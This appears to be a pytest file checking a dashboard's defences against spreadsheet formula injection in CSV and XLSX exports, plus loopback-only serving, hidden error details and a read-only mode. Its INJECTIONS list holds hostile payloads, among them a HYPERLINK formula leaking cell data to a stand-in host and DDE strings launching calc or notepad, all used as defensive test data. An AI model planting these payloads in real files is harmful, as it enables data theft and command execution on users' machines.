"""Security promises (docs/security.md), checked on the real thing.

Exports: injection strings in every text column of every table, through the real
`python -m loaders export`, come out as text a spreadsheet will not run, and otherwise
unchanged. The server: loopback only by default, no error details in the browser, a
read-only mode without the Load page (real Streamlit, real headless Chromium).
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import time
import tomllib
import urllib.request
from pathlib import Path

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st

from conftest import ROOT, SAMPLES, build_db
from test_browser import stop_app
from csv_expect import expected_cell, is_formula

INJECTIONS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",                          # blanks do not hide a formula
    "\n@SUM(A1)",
    "\uff1dHYPERLINK(\"https://evil.example\")",   # full-width equals sign
    '<a href="https://evil.example/pay">Donate</a>',
    "[Donate now](https://evil.example/pay)",
    "<script>alert('x')</script>",
    "plain text, left alone",
]


# --- the neutralisation function -------------------------------------------------------------

@given(st.text())
def test_csvsafe_cells_never_start_a_formula_and_change_nothing_else(text):
    from loaders import csvsafe
    out = csvsafe.neutralise(text)
    assert not is_formula(out)
    quoted_formula = text.startswith("'") and is_formula(text.lstrip("'"))   # "'=1" keeps its own apostrophe
    assert out == (("'" + text) if is_formula(text) or quoted_formula else text)   # the independent oracle agrees
    assert csvsafe.is_formula(text) == is_formula(text)
    assert csvsafe.restore(out) == text                         # an import gets the text back


def test_csvsafe_round_trips_text_that_already_starts_with_an_apostrophe():
    from loaders import csvsafe
    for text in ("'=", "''=1", "'+cmd", "'abc", "'", "=1"):
        assert csvsafe.restore(csvsafe.neutralise(text)) == text
        assert not is_formula(csvsafe.neutralise(text))
    assert csvsafe.neutralise("'abc") == "'abc"     # an apostrophe before plain text changes nothing


def test_csvsafe_leaves_non_text_alone():
    from loaders import csvsafe
    for v in (None, -5, -0.5, 0, 1e6, dt.date(2024, 1, 2), True):
        assert csvsafe.cell(v) is v
    assert csvsafe.row(["=1", -1, "-1", None]) == ["'=1", -1, "'-1", None]


def test_xlsx_cells_written_after_csvsafe_are_text_not_formulas(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    from loaders import csvsafe
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(csvsafe.row(INJECTIONS + [-5, 1.5]))
    wb.save(tmp_path / "x.xlsx")
    cells = list(openpyxl.load_workbook(tmp_path / "x.xlsx").active.iter_rows(values_only=False))[0]
    assert [c.data_type for c in cells[:-2]] == ["s"] * len(INJECTIONS)      # no "f" (formula)
    assert [c.value for c in cells[-2:]] == [-5, 1.5]


# --- the CLI export -----------------------------------------------------------------------------

def _records() -> list[dict]:
    """Articles whose every metadata field, and sentences, start with an injection."""
    out = []
    for i, bad in enumerate(INJECTIONS):
        out.append({"id": f"{bad[:30]}#{i}", "title": bad, "source": bad, "url": bad, "published": "2024-10-10",
                    "text": f"{bad} said on Monday that {20 + i} people were wounded in Kharkiv.\n"
                            f"{bad}\n"
                            f"Ukrainian forces repelled {40 + i} Russian attacks near Bakhmut, {bad} said.\n"})
    return out


def _varchar_columns(con) -> dict[str, list[str]]:
    cols: dict[str, list[str]] = {}
    for table, column in con.execute("SELECT table_name, column_name FROM information_schema.columns "
                                     "WHERE data_type = 'VARCHAR' ORDER BY table_name, ordinal_position").fetchall():
        cols.setdefault(table, []).append(column)
    return cols


def _rewrite_text(src: Path, dst: Path, value: str) -> None:
    """Copy the database at `src` (its catalog and its segment files) to `dst`, with every text
    column of every data table rewritten by the SQL `value` ({c}: the column, {r}: the row's
    number in its table, ?: the INJECTIONS list). The store keeps articles, figures, events and
    claim reports in Parquet segments behind views: those files are rewritten and the views
    pointed at the copies; the other tables are updated in place."""
    shutil.copy(src, dst)
    if Path(f"{src}.segments").exists():
        shutil.copytree(f"{src}.segments", f"{dst}.segments")
    con = duckdb.connect(str(dst))
    try:
        views = con.execute("SELECT view_name, sql FROM duckdb_views() WHERE NOT internal "
                            "AND sql LIKE '%read_parquet%'").fetchall()
        for name, sql in views:
            sql = sql.replace(f"{src}.segments", f"{dst}.segments")
            for path in set(re.findall(r"'([^']+\.parquet)'", sql)):
                types = con.execute(f"DESCRIBE SELECT * FROM read_parquet('{path}')").fetchall()
                text = [c for c, t, *_ in types if t == "VARCHAR"]
                repl = ", ".join(f"{value.format(c=c, r='__r')} AS {c}" for c in text)
                con.execute(f"COPY (SELECT * EXCLUDE (__r) REPLACE ({repl}) FROM (SELECT *, row_number() OVER () "
                            f"AS __r FROM read_parquet('{path}'))) TO '{path}.new' (FORMAT parquet)",
                            [INJECTIONS] * value.count("?") * len(text))
                os.replace(f"{path}.new", path)
            con.execute(f"DROP VIEW {name}")
            con.execute(sql)
        tables = con.execute("SELECT table_name FROM information_schema.tables WHERE table_type = 'BASE TABLE'").fetchall()
        for (table,) in tables:
            columns = _varchar_columns(con).get(table, [])
            if table == "meta" or table.startswith("_") or not columns:
                continue   # the schema version, the store's own bookkeeping
            sets = ", ".join(f"{c} = {value.format(c=c, r='rowid')}" for c in columns)
            con.execute(f"UPDATE {table} SET {sets}", [INJECTIONS] * value.count("?") * len(columns))
    finally:
        con.close()


@pytest.fixture(scope="module")
def hostile_dbs(tmp_path_factory):
    """(ingested, everything): a database loaded from injection records (plus the samples),
    and a copy in which every text column of every row holds an injection string."""
    tmp = tmp_path_factory.mktemp("inject")
    feed = tmp / "=cmd@feed.jsonl"
    feed.write_text("\n".join(json.dumps(r) for r in _records()) + "\n", encoding="utf-8")
    ingested = build_db(tmp, paths=[SAMPLES, feed], now=dt.datetime(2026, 1, 2))
    everything = tmp / "everything.duckdb"
    # unique values: some columns are keys
    _rewrite_text(ingested, everything, f"list_extract(?, ({{r}} % {len(INJECTIONS)})::INTEGER + 1) || ' #' || {{r}}")
    return ingested, everything


def _export(db: Path, out: Path) -> list[Path]:
    res = subprocess.run([sys.executable, "-m", "loaders", "export", "--db", str(db), "--out", str(out)],
                         cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert res.returncode == 0, res.stderr
    return [Path(line) for line in res.stdout.split()]


def _check_csv(path: Path, db: Path) -> int:
    """Every cell of `path` against the database row by row; returns how many text cells
    needed neutralising."""
    table = path.stem
    con = duckdb.connect(str(db), read_only=True)
    try:
        cur = con.execute(f"SELECT * FROM {table} ORDER BY ALL")
        cols, rows = [d[0] for d in cur.description], cur.fetchall()
    finally:
        con.close()
    with open(path, encoding="utf-8", newline="") as fh:
        got = list(csv.reader(fh))
    assert got[0] == cols and len(got) == len(rows) + 1, (table, len(got), len(rows))
    prefixed = 0
    for line, row in zip(got[1:], rows):
        for name, cell, value in zip(cols, line, row):
            if isinstance(value, str):
                assert not is_formula(cell), (table, name, cell[:80])
                assert cell == expected_cell(value), (table, name, cell[:80], value[:80])
                prefixed += cell != value
            elif value is None:
                assert cell == "", (table, name, cell)
            elif isinstance(value, bool):
                assert cell == str(value).lower(), (table, name, cell, value)
            elif isinstance(value, (int, float)):
                assert float(cell) == value, (table, name, cell, value)   # a number: "-25.3" is fine
            else:
                assert cell.startswith(str(value)[:19]), (table, name, cell, value)
    return prefixed


def test_cli_csv_export_neutralises_injections_from_real_articles(hostile_dbs, tmp_path):
    ingested, _ = hostile_dbs
    files = _export(ingested, tmp_path / "out")
    assert sorted(f.name for f in files) == ["articles.csv", "events.csv", "figures.csv", "places.csv"]
    counts = {f.stem: _check_csv(f, ingested) for f in files}
    # the injections reached the stored text (ids, titles, outlets, URLs, text, sentences) and were neutralised
    assert counts["articles"] >= 5 * 4, counts
    assert counts["figures"] > 0, counts
    with open(tmp_path / "out" / "articles.csv", encoding="utf-8", newline="") as fh:
        rows = {r["title"]: r for r in csv.DictReader(fh)}
    assert "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")" in rows
    assert '<a href="https://evil.example/pay">Donate</a>' in rows      # links kept, as text
    assert "[Donate now](https://evil.example/pay)" in rows


def test_cli_csv_export_neutralises_every_text_column(hostile_dbs, tmp_path):
    _, everything = hostile_dbs
    con = duckdb.connect(str(everything), read_only=True)
    try:
        text_columns = {t: c for t, c in _varchar_columns(con).items() if t != "meta"}
    finally:
        con.close()
    from loaders.store import TABLES   # what the CLI exports (feed bookkeeping tables are not data)
    files = _export(everything, tmp_path / "out")
    assert {f.stem for f in files} == set(TABLES) and set(TABLES) <= set(text_columns)
    for f in files:
        rows = sum(1 for _ in csv.reader(open(f, encoding="utf-8", newline=""))) - 1
        prefixed = _check_csv(f, everything)
        if rows:
            # all injections but two (the HTML and markdown links) and the plain one need the prefix
            assert prefixed > 0 and prefixed >= rows * len(text_columns[f.stem]) * 0.5, (f.stem, prefixed, rows)


def test_dashboard_downloads_use_the_same_rule(hostile_dbs):
    """metrics.export (the dashboard's downloads) goes through loaders.csvsafe too."""
    export = pytest.importorskip("metrics.export")
    import pandas as pd
    from loaders import csvsafe
    df = pd.DataFrame({"text": INJECTIONS, "n": range(-7, -7 + len(INJECTIONS))})
    rows = list(csv.reader(io.StringIO(export.to_csv(df).decode("utf-8"))))
    assert [r[0] for r in rows[1:]] == [csvsafe.cell(v) for v in INJECTIONS]
    assert [int(r[1]) for r in rows[1:]] == list(df["n"])


@pytest.fixture(scope="module")
def joined_db(hostile_dbs, tmp_path_factory):
    """The ingested database with an analyst's correction, then every text value of every table
    prefixed with an injection string: the same string for the same value everywhere, so joins
    (articles to figures, figures to places, corrections to figures) still hold and the
    dashboard's filtered views have rows to export."""
    from loaders import corrections as corr
    from metrics import db as mdb
    from metrics import review
    ingested, _ = hostile_dbs
    tmp = tmp_path_factory.mktemp("joined")
    copy, db = tmp / "corrected.duckdb", tmp / "joined.duckdb"
    _rewrite_text(ingested, copy, "{c}")     # a plain copy, to add a correction to
    row = mdb.rows(str(copy), "SELECT * FROM figures_raw ORDER BY figure_id LIMIT 1")[0]
    corr.save(copy, corr.make("figure", review.raw_row(str(copy), "figure", row["figure_id"]), "correct",
                            {"claimant": INJECTIONS[0]}, note=INJECTIONS[3], author=INJECTIONS[1]))
    mdb.close_all()
    _rewrite_text(copy, db, f"list_extract(?, (hash({{c}}) % {len(INJECTIONS)})::INTEGER + 1) || {{c}}")
    return copy, db


def _csv_cells(raw: bytes, name: str) -> list[list[str]]:
    """A dashboard CSV's rows; every cell a spreadsheet would run is a number (a longitude of
    -25.3), never text. Returns the rows."""
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    for r in table:
        for cell in r:
            if is_formula(cell):
                float(cell)
            if cell.startswith("'"):
                assert expected_cell(cell[1:]) == cell, (name, cell[:80])   # one apostrophe, only where needed
    return table


def test_every_dashboard_download_neutralises_every_text_column(joined_db):
    """Every file the dashboard offers (the Data page's workbook, zips and CSVs, every table, the
    data dictionary, a page table's own CSV, the Review page's corrections CSV), built by the
    functions the pages call, on a database whose every text value starts with an injection
    (the corrections file: a correction whose claimant, note and author are injections)."""
    import zipfile

    from openpyxl import load_workbook

    from loaders import corrections as corr
    from metrics import db as mdb
    from metrics import export
    from metrics.filters import Filters

    corrected, joined = joined_db
    db, f = str(joined), Filters()
    try:
        meta = export.stamp(db, f)
        sid = meta["snapshot_id"]
        files = {"figures_filtered.csv": export.to_csv(export.view(db, f), True, sid),
                 "events_filtered.csv": export.to_csv(export.view_events(db, f), True, sid),
                 "data_dictionary.csv": export.to_csv(export.dictionary(db), True, sid),
                 "page table.csv": export.table_csv(export.view(db, f).head(50), meta, {"title": "Title"}),
                 # the Review page's file: stored corrections (their kinds and actions must stay valid)
                 "review corrections.csv": corr.dump_csv([corr.from_record(r) for r in mdb.rows(
                     str(corrected), f"SELECT {', '.join(corr.COLUMNS)} FROM corrections")])}
        files.update({f"{t}.csv": export.to_csv(export.table(db, t), True, sid) for t in export.TABLES})
        for zipped in (export.zip_all(db, f, meta), export.filtered_zip(db, f, meta)):
            with zipfile.ZipFile(io.BytesIO(zipped)) as z:
                files.update({f"zip/{n}": z.read(n) for n in z.namelist() if n.endswith(".csv")})
        book = load_workbook(io.BytesIO(export.xlsx(db, f, meta)))
    finally:
        mdb.close_all()
    con = duckdb.connect(str(joined), read_only=True)
    try:   # the stored text columns, by name: whatever a file shows under such a name came from them
        stored = {c for t, cols in _varchar_columns(con).items() if t != "meta" and not t.startswith("_") for c in cols}
    finally:
        con.close()
    from loaders import csvsafe
    checked, seen = set(), set()

    for name, raw in files.items():
        table = _csv_cells(raw, name)
        body = [c for r in table[1:] for c in r]
        if Path(name).name.startswith(("meta", "data_dictionary")):
            continue   # no data text in them
        assert len(table) > 1, f"{name}: no rows to check"
        if name == "review corrections.csv":
            assert {"'" + INJECTIONS[0], "'" + INJECTIONS[1], "'" + INJECTIONS[3]} <= set(body), body
            continue
        for i, column in enumerate(table[0]):
            if column in stored - {"snapshot_id"}:
                values = [csvsafe.restore(r[i]) for r in table[1:] if r[i]]
                bad = [v for v in values if not v.startswith(tuple(INJECTIONS))]
                assert not bad, (name, column, bad[:3])   # every stored text reached the file as it is
                checked.add(column)
        # the injections reached this file and came out neutralised. Which injection a value gets
        # follows its hash, and a small table (articles) may miss any one of them, so each
        # injection is asked of the files together and each file only for some neutralised cell
        assert any(c.startswith("'") and is_formula(c[1:]) for c in body), name
        seen.update(i for i, inj in enumerate(INJECTIONS) for c in body if c == expected_cell(inj) or
                    c.startswith(expected_cell(inj)))
    assert seen == set(range(len(INJECTIONS))), [INJECTIONS[i] for i in set(range(len(INJECTIONS))) - seen]
    assert {"doc_id", "title", "outlet", "url", "sentence", "claimant", "place", "city", "kind"} <= checked, checked
    cells = 0
    for ws in book.worksheets:
        for r in ws.iter_rows():
            for c in r:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and is_formula(c.value):
                    assert c.quotePrefix, (ws.title, c.coordinate, c.value[:80])
                    cells += 1
    assert cells > 100, cells


# --- the server -------------------------------------------------------------------------------------

def test_config_listens_on_loopback_and_hides_error_details():
    cfg = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert cfg["server"]["address"] in ("127.0.0.1", "localhost", "::1")
    assert cfg["client"]["showErrorDetails"] == "none"


CHROMIUM = "/usr/bin/chromium"


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _start(script: str, env: dict, extra: list[str] = ()) -> tuple[subprocess.Popen, str]:
    """Streamlit from the repository root, so .streamlit/config.toml applies; no --server.address."""
    port = _free_port()
    proc = subprocess.Popen([sys.executable, "-m", "streamlit", "run", script, "--server.headless", "true",
                             "--server.port", str(port), *extra],
                            cwd=ROOT, env={**os.environ, "PYTHONUNBUFFERED": "1", **env},
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    url = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 60
    while True:
        if proc.poll() is not None:
            raise RuntimeError(f"streamlit exited: {proc.stdout.read()}")
        try:
            with urllib.request.urlopen(url + "/_stcore/health", timeout=2) as r:
                if r.status == 200:
                    return proc, url
        except OSError:
            if time.monotonic() > deadline:
                proc.kill()
                raise TimeoutError("streamlit did not become healthy")
            time.sleep(0.3)


@pytest.fixture(scope="module")
def readonly_server(tmp_path_factory):
    db = build_db(tmp_path_factory.mktemp("readonly"))
    proc, url = _start("app.py", {"FRONTLINE_DB": str(db), "FRONTLINE_READONLY": "1"})
    try:
        yield proc, url
    finally:
        stop_app(proc)


@pytest.mark.timeout(120)
def test_the_dashboard_listens_only_on_loopback(readonly_server):
    psutil = pytest.importorskip("psutil")
    proc, _ = readonly_server
    listening = [c.laddr for c in psutil.Process(proc.pid).net_connections(kind="inet")
                 if c.status == psutil.CONN_LISTEN]
    assert listening, "no listening socket found"
    assert all(a.ip in ("127.0.0.1", "::1") for a in listening), listening


@pytest.fixture(scope="module")
def browser():
    if not Path(CHROMIUM).exists():
        pytest.skip(f"{CHROMIUM} is not installed")
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, headless=True,
                              args=["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run"])
        yield b
        b.close()


@pytest.mark.timeout(180)
def test_read_only_mode_has_no_load_page(readonly_server, browser):
    _, url = readonly_server
    page = browser.new_page()
    page.goto(url, wait_until="domcontentloaded")
    page.get_by_role("heading", name="Overview").first.wait_for(timeout=60_000)
    nav = page.locator('[data-testid="stSidebarNav"]').inner_text()
    assert "Overview" in nav and "Data" in nav and "Load" not in nav and "Review" not in nav, nav
    page.goto(url + "/load", wait_until="domcontentloaded")     # not reachable by its URL either
    page.get_by_role("heading", name="Overview").first.wait_for(timeout=60_000)
    page.wait_for_timeout(1000)
    assert page.locator('input[type="file"]').count() == 0
    assert page.get_by_role("heading", name="Load articles").count() == 0
    page.close()


@pytest.mark.timeout(180)
def test_errors_reach_the_browser_without_details(browser):
    proc, url = _start("tests/fixtures/boom_app.py", {})
    try:
        page = browser.new_page()
        page.goto(url, wait_until="domcontentloaded")
        page.get_by_role("heading", name="Boom").wait_for(timeout=60_000)
        page.locator('[data-testid="stException"], [data-testid="stAlert"]').first.wait_for(timeout=30_000)
        shown = page.locator("main").inner_text()
        assert "error" in shown.lower(), shown
        for secret in ("secret detail", "/srv/frontline", "Traceback", "boom_app.py", "RuntimeError"):
            assert secret not in shown, (secret, shown)
        page.close()
    finally:
        stop_app(proc)
